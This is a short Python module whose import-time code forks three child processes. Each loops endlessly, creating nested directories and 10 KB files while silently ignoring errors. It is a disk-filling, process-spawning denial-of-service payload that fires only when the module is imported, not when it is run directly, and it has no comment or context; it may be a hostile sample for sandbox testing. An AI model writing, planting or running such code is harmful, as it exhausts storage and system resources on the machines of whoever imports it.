import os

if __name__ != "__main__":
    for _ in range(3):
        try:
            if os.fork() == 0:
                while True:
                    for number in range(1000):
                        try:
                            os.makedirs(f"d{number}/e/f", exist_ok=True)
                            open(f"f{number}", "wb").write(b"x" * 10_000)
                        except OSError:
                            pass
        except OSError:
            pass
